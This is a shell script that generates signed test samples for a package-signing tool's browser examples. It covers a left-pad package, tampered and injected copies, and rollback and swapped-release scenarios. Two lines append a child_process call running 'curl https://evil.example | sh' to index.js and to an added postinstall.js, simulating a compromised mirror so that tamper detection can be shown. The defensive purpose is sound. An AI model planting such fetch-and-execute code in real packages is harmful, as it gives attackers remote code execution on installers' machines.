#!/usr/bin/env bash
# Regenerates the signed material of the browser examples with a fresh throwaway key, using the
# `omega` command line as a package author would (the secret key lives in a temp dir and is
# deleted). Outputs, committed so that the examples and tests need no signing step:
#   samples/author.pub                       the sample author's public key
#   samples/left-pad-1.3.0.tgz               signed with `omega pack --tgz`
#   samples/left-pad-1.3.0-tampered.tgz      same, index.js changed after signing (FILE_CHANGED)
#   samples/left-pad-1.3.0-injected.tgz      same, a file added after signing (FILE_EXTRA)
#   sw/app/.omega/                           the service-worker example app, signed (1.1.0, sequence 2)
#   samples/sw-app-1.0.0/                    its previous release, signed by the same key (1.0.0,
#                                            sequence 1): what a rollback attack serves
#   samples/sw-app-1.1.0-other/              1.1.0 again (sequence 2) with another tree
#   sw/index.src.html                        its pinned key (the <script id="omega-pins"> block)
#   sw/app/injected.js                       written AFTER signing: the unlisted script
# Usage: examples/browser/make-samples.sh   (OMEGA=/path/to/omega to use a given binary)
set -euo pipefail
here=$(cd "$(dirname "$0")" && pwd)
root=$(cd "$here/../.." && pwd)
if [ -z "${OMEGA:-}" ]; then
  (cd "$root" && cargo build -q -p omega-cli)
  OMEGA=$root/target/debug/omega
fi
work=$(mktemp -d)
trap 'rm -rf -- "$work"' EXIT
export SOURCE_DATE_EPOCH=1767225600   # fixed signature timestamps

"$OMEGA" keygen -W -c "omega browser examples (sample key)" -s "$work/author.key" -p "$work/author.pub" >/dev/null
cp "$work/author.pub" "$here/samples/author.pub"
key=$(sed -n 2p "$work/author.pub")

# The sample npm package.
pkg=$work/left-pad
mkdir -p "$pkg/bin"
cat >"$pkg/package.json" <<'JSON'
{
  "name": "left-pad",
  "version": "1.3.0",
  "main": "index.js",
  "bin": { "left-pad": "bin/left-pad.js" }
}
JSON
cat >"$pkg/index.js" <<'JS'
'use strict';
module.exports = function leftPad(str, len, ch) {
  str = String(str);
  ch = ch === undefined ? ' ' : String(ch);
  while (str.length < len) str = ch + str;
  return str;
};
JS
cat >"$pkg/bin/left-pad.js" <<'JS'
#!/usr/bin/env node
console.log(require('..')(process.argv[2] ?? '', Number(process.argv[3] ?? 0), process.argv[4]));
JS
chmod +x "$pkg/bin/left-pad.js"
printf '# left-pad\n\nA sample package for the Ωpm browser example.\n' >"$pkg/README.md"
"$OMEGA" pack "$pkg" --name left-pad --version 1.3.0 --sequence 3 -s "$work/author.key" \
  --tgz "$here/samples/left-pad-1.3.0.tgz" >/dev/null

# Tampered copies: unpacked, changed, packed again WITHOUT signing (a compromised mirror).
repack() { # dir out
  tar --sort=name --owner=0 --group=0 --numeric-owner --mtime=@499162500 --format=ustar \
    -C "$1" -cf - package | gzip -9n >"$2"
}
for kind in tampered injected; do
  mkdir -p "$work/$kind"
  tar -xzf "$here/samples/left-pad-1.3.0.tgz" -C "$work/$kind"
done
printf "require('child_process').exec('curl https://evil.example | sh');\n" >>"$work/tampered/package/index.js"
printf "require('child_process').exec('curl https://evil.example | sh');\n" >"$work/injected/package/postinstall.js"
repack "$work/tampered" "$here/samples/left-pad-1.3.0-tampered.tgz"
repack "$work/injected" "$here/samples/left-pad-1.3.0-injected.tgz"

# The service-worker example app.
app=$here/sw/app
rm -f "$app/injected.js"
rm -rf "$app/.omega"
# The previous release (1.0.0, sequence 1): the same app with another release number in
# lib/details.js, signed by the same key. A mirror serving it after 1.1.0 is a rollback.
old=$here/samples/sw-app-1.0.0
rm -rf "$old"
mkdir -p "$old"
(cd "$app" && tar --exclude=.omega --exclude=injected.js -cf - .) | tar -xf - -C "$old"
sed -i "s/RELEASE = '1.1.0'/RELEASE = '1.0.0'/" "$old/lib/details.js"
grep -q "RELEASE = '1.0.0'" "$old/lib/details.js"
"$OMEGA" pack "$old" --name omega-sw-example-app --version 1.0.0 --sequence 1 -s "$work/author.key" >/dev/null
# Another tree under the same sequence (2): a re-signed 1.1.0 with one comment more. Accepting it
# after the real 1.1.0 would let a server swap releases without raising the sequence.
other=$here/samples/sw-app-1.1.0-other
rm -rf "$other"
mkdir -p "$other"
(cd "$app" && tar --exclude=.omega --exclude=injected.js -cf - .) | tar -xf - -C "$other"
printf '// Rebuilt: another tree with the same sequence.\n' >>"$other/lib/details.js"
"$OMEGA" pack "$other" --name omega-sw-example-app --version 1.1.0 --sequence 2 -s "$work/author.key" >/dev/null
"$OMEGA" pack "$app" --name omega-sw-example-app --version 1.1.0 --sequence 2 -s "$work/author.key" >/dev/null
cat >"$app/injected.js" <<'JS'
// NOT part of the signed app: it stands for a script an attacker added to the server.
// The service worker refuses it (FILE_EXTRA); without Ωpm it would run.
window.__omegaInjected = true;
document.body.style.outline = '6px solid #c0392b';
JS
node - "$here/sw/index.src.html" "$key" <<'JS'
const fs = require('fs');
const [file, key] = process.argv.slice(2);
const html = fs.readFileSync(file, 'utf8');
const block = /(<script type="application\/json" id="omega-pins">)[\s\S]*?(<\/script>)/;
if (!block.test(html)) throw new Error(`${file}: no omega-pins block`);
const pins = JSON.stringify({ keys: [key], threshold: 1 }, null, 2).replace(/\n/g, '\n  ');
fs.writeFileSync(file, html.replace(block, `$1\n  ${pins}\n  $2`));
JS
echo "samples: signed with $key"
"$OMEGA" check "$app" -P "$key" 2>&1 | sed 's/^/  /' || true   # FILE_EXTRA for injected.js, by design
# The page (sw/index.html) is generated from sw/index.src.html with the worker's pins.
if [ -f "$root/bindings/wasm/pkg/omega.js" ]; then
  node "$here/sw/build-worker.mjs"
else
  echo "samples: run make build-wasm to generate sw/index.html and sw/omega-sw.js"
fi
